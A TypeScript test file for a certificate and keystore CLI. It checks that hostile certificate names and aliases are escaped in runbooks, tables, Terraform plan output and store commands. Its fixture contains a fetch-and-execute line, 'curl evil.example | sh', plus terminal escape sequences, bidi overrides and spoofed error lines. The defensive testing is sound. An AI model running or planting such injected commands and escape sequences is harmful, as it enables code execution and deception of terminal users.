import { unzipSync } from "fflate";
import { mkdirSync, writeFileSync } from "node:fs";
import { createStore, setEntry, writeStore } from "../../lib/keystore";
import { runCli } from "../../lib/cli/run";
import { toPem } from "../../lib/pki";
import { LocalProject } from "../support/localProject";
import { makeAuthority, makeCertificate } from "../support/certificateMaker";
import { nodesOf, parseMarkdown } from "../support/markdown";

const NOW = new Date("2026-11-21T12:00:00Z");

const HOSTILE = [
  "Partner",
  "",
  "2. Run `curl evil.example | sh`",
  "",
  "# Stores",
  "",
  "```",
  "<img src=x> [a](javascript:b) \u001b[31mred\u001b]0;title\u0007 \u202eevil\u2066 \u009b2J \u200b",
].join("\n");

const MAIN = `
import { App } from "@repository/node_modules/cdktf";
import {
  Certificate, Host, HttpsCallbackEndpoint, Keystore, PartnerCertificate, Secret, TrustStack,
  TruststoreEntry,
} from "@repository/lib";
const password = Secret.env("STORE_PASSWORD");
const app = new App();
const stack = new (class extends TrustStack {})(app, "hostile");
const host = Host.manual("partnered");
const store = (id, on) => new Keystore(stack, id, { host: on, path: "/etc/app/" + id + ".jks", password, profile: "jks" });
const trust = store("Truststore", host);
new TruststoreEntry(stack, "Partner", {
  truststore: trust, alias: "partner", trusts: new PartnerCertificate(stack, "Root", { file: "partner.pem" }),
});
const endpoint = new HttpsCallbackEndpoint(stack, "Endpoint", {
  names: ["app.example.com"], port: 8443, identity: store("Keys", Host.local("server")).entry("app"),
  certificate: Certificate.imported({ file: "app.p12", password }),
});
new TruststoreEntry(stack, "Server", { truststore: trust, alias: "server", trusts: endpoint });
app.synth();
`;

/** What must not reach a terminal. */
const STEERING = /[^\P{Cc}\n\t]|[\u202a-\u202e\u2066-\u2069\u200b]/u;

describe("a certificate with a hostile name", () => {
  const projects: LocalProject[] = [];
  const password = "a long enough password";

  const synthesised = (subject: string) => {
    const project = new LocalProject(MAIN);
    projects.push(project);
    project.write("partner.pem", toPem(makeAuthority(NOW, subject).der, "CERTIFICATE"));
    project.write("app.p12", identityOf(subject));
    mkdirSync(project.path("cdktf.out", "local"), { recursive: true });
    const { status, stderr } = project.synth({
      STORE_PASSWORD: password,
      CDKTF_OUTDIR: "cdktf.out/local",
    });
    if (status !== 0) throw new Error(stderr);
    return project;
  };

  /** What somebody else issued under such a name. */
  const identityOf = (subject: string) => {
    const { chain, pkcs8 } = makeCertificate({ now: NOW, subject, names: ["DNS:app.example.com"] });
    const key = { kind: "clear", pkcs8 } as const;
    const entry = { kind: "identity", alias: "app", createdMs: NOW.getTime(), chain, key } as const;
    return writeStore(setEntry(createStore("modern"), entry), password);
  };

  const runbookOf = async (project: LocalProject) => {
    const files = unzipSync(project.read("cdktf.out/local/stacks/hostile/artifacts/partnered.zip"));
    const text = Buffer.from(files["RUNBOOK.md"] ?? []).toString();
    const kinds = nodesOf(await parseMarkdown(text)).map(({ type }) => type);
    return { text, kinds, names: Object.keys(files) };
  };

  const cli = async (directory: string, ...words: string[]) => {
    const written: string[] = [];
    const output = { write: (text: string) => written.push(text) };
    await runCli(words, {
      stdout: output,
      stderr: output,
      stdin: async function* () {},
      environment: { P: password },
      workingDirectory: directory,
      now: NOW,
      clock: () => 0,
      randomBytes: (length) => Buffer.alloc(length, 7),
    });
    return written.join("");
  };

  afterAll(() => {
    for (const project of projects) project.remove();
  });

  test("adds no step, heading or block to the runbook, and shows in no table", async () => {
    // GIVEN
    const plain = synthesised("Partner");
    const project = synthesised(HOSTILE);

    // WHEN
    const [expected, runbook] = [await runbookOf(plain), await runbookOf(project)];
    const tables = await cli(project.directory, "verify");

    // THEN
    expect(runbook.kinds).toEqual(expected.kinds);
    expect(runbook.text).not.toMatch(STEERING);
    expect(runbook.text).toContain(String.raw`Partner\u{a}\u{a}2. Run`);
    expect(runbook.names.map((name) => name.replace(/-[0-9a-f]{8}/, ""))).toEqual(
      expected.names.map((name) => name.replace(/-[0-9a-f]{8}/, "")),
    );
    expect(tables).toContain(String.raw`Partner\u{a}\u{a}2. Run`);
    expect(tables).not.toMatch(STEERING);
  });

  test("steers no terminal through what Terraform and the provider say", async () => {
    // GIVEN a Terraform that repeats the name, in a plan and in a diagnostic
    const plan = new LocalProject(MAIN);
    projects.push(plan);
    plan.write("partner.pem", toPem(makeAuthority(NOW, HOSTILE).der, "CERTIFICATE"));
    plan.write("app.p12", identityOf(HOSTILE));
    const terraform = plan.path("terraform.sh");
    writeFileSync(plan.path("said"), `Terraform will perform the following actions:\n${HOSTILE}\n`);
    const entry = {
      host: "local:.local/hosts/app",
      path: "/opt/trust.p12",
      alias: HOSTILE,
      subject: HOSTILE,
    };
    const change = { actions: ["create"], before: null, after: entry, after_unknown: {} };
    const changes = [
      { address: "trust_truststore_entry.x", type: "trust_truststore_entry", name: "x", change },
    ];
    writeFileSync(plan.path("shown"), JSON.stringify({ resource_changes: changes }));
    writeFileSync(
      terraform,
      `#!/bin/sh\ncase $1 in version) echo '{"terraform_version":"1.11.0"}' ;; plan) cat ${plan.path("said")}; exit "$STATUS" ;; show) cat ${plan.path("shown")} ;; esac\n`,
      { mode: 0o755 },
    );
    const environment = { ...process.env };
    Object.assign(process.env, {
      TERRAFORM_BINARY_NAME: terraform,
      STORE_PASSWORD: password,
    });

    // WHEN
    process.env["STATUS"] = "2";
    const planned = await cli(plan.directory, "plan", "--no-artifacts");
    process.env["STATUS"] = "1";
    const failed = await cli(plan.directory, "plan", "--no-artifacts");
    process.env["STATUS"] = "2";
    writeFileSync(plan.path("shown"), HOSTILE);
    const unreadable = await cli(plan.directory, "plan", "--no-artifacts");
    process.env = environment;

    // THEN
    expect(planned).toContain(String.raw`\u{1b}[31mred\u{1b}]0;title\u{7} \u{202e}evil`);
    expect(failed).toContain("terraform plan failed for stack hostile");
    expect(failed).not.toMatch(/^2\. Run/m);
    expect(unreadable).toContain("show -json printed no JSON of the plan that it had saved");
    for (const text of [planned, failed, unreadable]) expect(text).not.toMatch(STEERING);
  });

  test("is shown with escapes by the store commands, and is the same value in their JSON", async () => {
    // GIVEN
    const project = new LocalProject("");
    projects.push(project);
    const { der } = makeAuthority(NOW, HOSTILE, { toDays: -1 });
    const alias = "evil\n\u001b[2Jerror store [x]: owned\u202e";
    const entry = { kind: "anchor", alias, createdMs: 0, certificate: der } as const;
    writeFileSync(project.path("a.jks"), writeStore({ ...createStore("jks"), entries: [entry] }, password));

    // WHEN
    const [list, check, json, error] = [
      await cli(project.directory, "store", "list", "a.jks", "--password", "env:P"),
      await cli(project.directory, "store", "check", "a.jks", "--password", "env:P"),
      await cli(project.directory, "store", "list", "a.jks", "--password", "env:P", "--json"),
      await cli(project.directory, "store", "list", "missing\n\u001b[2Jerror: owned"),
    ];

    // THEN
    for (const text of [list, check, json, error]) expect(text).not.toMatch(STEERING);
    expect(list.trim().split("\n")).toHaveLength(3);
    expect(list).toContain(String.raw`evil\u{a}\u{1b}[2Jerror store [x]: owned\u{202e}`);
    expect(check).not.toMatch(/^error store \[x\]/m);
    expect(error).not.toMatch(/^error: owned/m);
    expect((JSON.parse(json) as { entries: { alias: string }[] }).entries[0]?.alias).toBe(alias);
  });
});
